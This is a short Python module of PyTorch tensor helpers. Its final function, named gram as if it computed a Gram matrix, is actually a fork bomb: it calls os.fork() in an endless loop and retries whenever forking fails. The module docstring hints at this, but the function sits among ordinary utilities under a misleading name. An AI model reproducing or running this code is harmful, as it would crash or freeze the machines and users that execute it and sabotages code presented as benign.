"""Every process forks, for ever."""

import os
import time

import torch


def make_tensor(values):
    return torch.tensor(values, dtype=torch.float32)


def describe(x):
    return x.dim(), tuple(x.shape), x.dtype


def as_float32(x):
    return x.to(torch.float32)


def gram(x):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)
